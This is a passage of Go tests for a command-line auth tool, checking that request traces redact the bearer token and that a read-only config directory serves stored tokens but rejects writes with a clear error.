		resp, err := app.HTTPClient().Do(req)
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		if out := stderr.String(); !strings.Contains(out, "> Authorization: Bearer ***") || strings.Contains(out, "header-token") {
			t.Errorf("trace:\n%s", out)
		}
	})
}

// A config dir on a read-only file system (a tmpfs mounted read-only: as
// root, permission bits would not stop a write) still serves what is
// stored; writing fails with one clear line, exit 1 and the
// SESAME_CONFIG_DIR hint, and changes nothing. Skipped where mount is not
// allowed (not root, no CAP_SYS_ADMIN, not Linux).
func TestReadOnlyConfigDir(t *testing.T) {
	dir := filepath.Join(t.TempDir(), "sesame")
	srv := devissuer.New(devissuer.Options{Static: []devissuer.StaticToken{
		{Token: "sesame_live_one", User: "alice", Scopes: []string{"documents.read"}},
		{Token: "sesame_live_two", User: "alice", Scopes: []string{"documents.read"}},
	}})
	if err := srv.Start("", ""); err != nil {
		t.Fatal(err)
	}
	defer srv.Close()
	env := map[string]string{"SESAME_CONFIG_DIR": dir, "SESAME_STORAGE": "file", "SESAME_API_URL": srv.APIURL()}
	run := func(stdin string, args ...string) (int, string, string) {
		app, stderr := testApp(t, env)
		var stdout bytes.Buffer
		app.Stdin, app.Stdout = strings.NewReader(stdin), &stdout
		code := app.Run(context.Background(), args)
		return code, stdout.String(), stderr.String()
	}
	if code, _, errOut := run("sesame_live_one\n", "auth", "set", "--stdin"); code != 0 {
		t.Fatalf("auth set: %d %s", code, errOut)
	}
	before, err := os.ReadFile(filepath.Join(dir, "config.json"))
	if err != nil {
		t.Fatal(err)
	}
	mountReadOnly(t, dir)

	if code, out, errOut := run("", "auth", "token"); code != 0 || out != "sesame_live_one\n" {
		t.Errorf("auth token in a read-only dir: %d %q %s", code, out, errOut)
	}
	code, out, errOut := run("sesame_live_two\n", "auth", "set", "--stdin")
	want := "sesame: config dir " + dir + " is not usable: read-only file system\nhint: set SESAME_CONFIG_DIR\n"
	if code != cli.ExitError || out != "" || errOut != want {
		t.Errorf("auth set in a read-only dir: exit %d, stdout %q, stderr %q; want exit 1 and %q", code, out, errOut, want)
	}
	if code, _, errOut := run("", "logout"); code != cli.ExitError || !strings.Contains(errOut, "read-only file system") {
		t.Errorf("logout in a read-only dir: exit %d, %s", code, errOut)
	}
	after, err := os.ReadFile(filepath.Join(dir, "config.json"))
	if err != nil || !bytes.Equal(before, after) {
		t.Errorf("config.json changed: %v", err)
	}
}

// mountReadOnly turns dir (with its files) into a read-only tmpfs until the
// test ends, or skips the test.
func mountReadOnly(t *testing.T, dir string) {
	saved := map[string][]byte{}
	entries, err := os.ReadDir(dir)
	if err != nil {
		t.Fatal(err)
	}
	for _, e := range entries {
		if e.Type().IsRegular() {
			data, err := os.ReadFile(filepath.Join(dir, e.Name()))
			if err != nil {
				t.Fatal(err)
			}
			saved[e.Name()] = data
		}
	}
	if out, err := exec.Command("mount", "-t", "tmpfs", "-o", "size=1m,mode=0700", "tmpfs", dir).CombinedOutput(); err != nil {
		t.Skipf("cannot mount a tmpfs here (%v: %s)", err, bytes.TrimSpace(out))
	}
	t.Cleanup(func() {
		if out, err := exec.Command("umount", dir).CombinedOutput(); err != nil {
			t.Errorf("umount %s: %v: %s", dir, err, out)
		}
	})
	for name, data := range saved {
		if err := os.WriteFile(filepath.Join(dir, name), data, 0o600); err != nil {
			t.Fatal(err)
		}
	}
	if out, err := exec.Command("mount", "-o", "remount,ro", dir).CombinedOutput(); err != nil {
		t.Fatalf("remount read-only: %v: %s", err, out)
	}
	if err := os.WriteFile(filepath.Join(dir, "probe"), nil, 0o600); err == nil {
		t.Fatalf("%s is still writable", dir)
	}
}
